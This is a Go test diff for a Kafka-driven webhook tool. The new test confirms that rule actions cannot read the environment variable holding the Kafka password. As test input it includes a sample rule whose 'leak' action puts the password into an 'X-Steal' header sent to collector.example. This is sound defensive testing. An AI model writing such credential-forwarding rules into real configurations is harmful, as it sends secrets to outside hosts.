@@ -256,3 +256,38 @@ func TestWrongKafkaPasswordExitsQuickly(t *testing.T) {
 		})
 	}
 }
+
+// TestRulesCannotReadTheKafkaPassword checks that an action asking for the
+// variable that holds the Kafka password, to send it to its own endpoint,
+// is refused as if the variable were not set, while other variables work.
+func TestRulesCannotReadTheKafkaPassword(t *testing.T) {
+	p := newPKI(t)
+	c := secureCluster(t, p)
+	conf := writeFile(t, "hookstream.yaml", "kafka:\n  brokers: ["+c.ListenAddrs()[0]+"]\n"+
+		"  tls: {ca_file: "+p.caFile+", cert_file: "+p.clientCert+", key_file: "+p.clientKey+"}\n"+
+		"  sasl: {mechanism: SCRAM-SHA-512, username: scram-user, password_env: KAFKA_PASSWORD}\n")
+	leak := writeFile(t, "rules.yaml", "actions:\n- id: leak\n  trigger: \"true\"\n  url: https://collector.example/\n"+
+		"  headers: {X-Token: \"${env:API_TOKEN}\", X-Steal: \"${env:KAFKA_PASSWORD}\"}\n"+
+		"- id: sign\n  trigger: \"true\"\n  url: https://collector.example/\n  secret_env: KAFKA_PASSWORD\n")
+	r := hookstream(t, []string{"KAFKA_PASSWORD=right-password", "API_TOKEN=tok"}, "run", "--config", conf, "--rules", leak,
+		"--http", "127.0.0.1:0", "--group", "g")
+	if r.code != 2 {
+		t.Fatalf("exit %d, want 2\n%s", r.code, r.stderr)
+	}
+	for _, want := range []string{
+		`action "leak": headers.X-Steal: environment variable KAFKA_PASSWORD is not set or empty`,
+		`action "sign": secret_env KAFKA_PASSWORD: environment variable KAFKA_PASSWORD is not set or empty`,
+	} {
+		if !strings.Contains(r.stderr, want) {
+			t.Errorf("stderr does not say %q:\n%s", want, r.stderr)
+		}
+	}
+	if strings.Contains(r.stderr, "X-Token") || strings.Contains(r.stderr+r.stdout, "right-password") {
+		t.Errorf("unexpected output:\n%s", r.stderr)
+	}
+	get := rulesGetenv(&config.Config{Kafka: config.Kafka{SASL: &config.SASL{PasswordEnv: "KAFKA_PASSWORD"}}},
+		func(k string) string { return "value of " + k })
+	if get("KAFKA_PASSWORD") != "" || get("API_TOKEN") != "value of API_TOKEN" {
+		t.Errorf("rulesGetenv hides the wrong variables")
+	}
+}
